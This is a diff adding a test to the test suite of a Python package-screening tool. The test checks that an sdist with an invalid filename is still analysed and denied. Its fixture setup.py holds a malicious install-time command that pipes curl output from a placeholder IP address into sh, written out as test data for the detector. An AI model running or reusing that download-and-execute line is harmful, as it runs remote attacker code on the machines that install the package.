@@ -1,13 +1,15 @@
 """A distribution that cannot be read is never allowed (issue 15, defect 8).
 
 Named on the command line, it is bad input (exit 2, as for ``screen`` and ``diff``); served by
-an index, the package is denied.
+an index, the package is denied. What pip does read (a tar without its end marker, an sdist
+with an invalid file name installed from a path) is analysed, and denied for its form too.
 """
 
 from __future__ import annotations
 
 import gzip
 import hashlib
+import io
 import json
 import tarfile
 from pathlib import Path
@@ -120,4 +122,46 @@ def test_screen_of_a_tar_sdist_without_its_end_marker_analyses_it_and_denies(
     denied = {reason["rule"] for reason in package["reasons"] if reason["decision"] == "deny"}
     assert "archive-unterminated" in denied
     # The content was read: what setup.py does is found, not only the archive's shape.
+    assert denied & {"download-exec", "process-spawn"}, denied
+
+
+def test_screen_of_an_sdist_with_an_invalid_name_names_it_by_its_metadata_and_denies(
+    capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    # pip installs "demo-1.0-py3-none-any.tar.gz" from a path or URL, named by its PKG-INFO:
+    # screen reads it as such, reports what it does, and denies the name itself.
+    stream = io.BytesIO()
+    with tarfile.open(fileobj=stream, mode="w:gz") as archive:
+        for name, data in (
+            ("demo-1.0/PKG-INFO", b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"),
+            ("demo-1.0/setup.py", b"import os\nos.system('curl -s http://203.0.113.9/x | sh')\n"),
+        ):
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            archive.addfile(info, io.BytesIO(data))
+    path = tmp_path / "demo-1.0-py3-none-any.tar.gz"
+    path.write_bytes(stream.getvalue())
+    report_path = tmp_path / "report.json"
+    code = main(
+        [
+            "screen",
+            str(path),
+            "--offline",
+            "--no-public-check",
+            "--no-record",
+            "--format",
+            "json",
+            "--cache-dir",
+            str(tmp_path / "cache"),
+            "-o",
+            str(report_path),
+        ]
+    )
+    captured = capsys.readouterr()
+    assert code == 1, captured
+    assert_no_traceback(captured.out + captured.err)
+    (package,) = json.loads(report_path.read_text())["packages"]
+    assert (package["name"], package["version"], package["decision"]) == ("demo", "1.0", "deny")
+    denied = {reason["rule"] for reason in package["reasons"] if reason["decision"] == "deny"}
+    assert "filename-invalid" in denied
     assert denied & {"download-exec", "process-spawn"}, denied
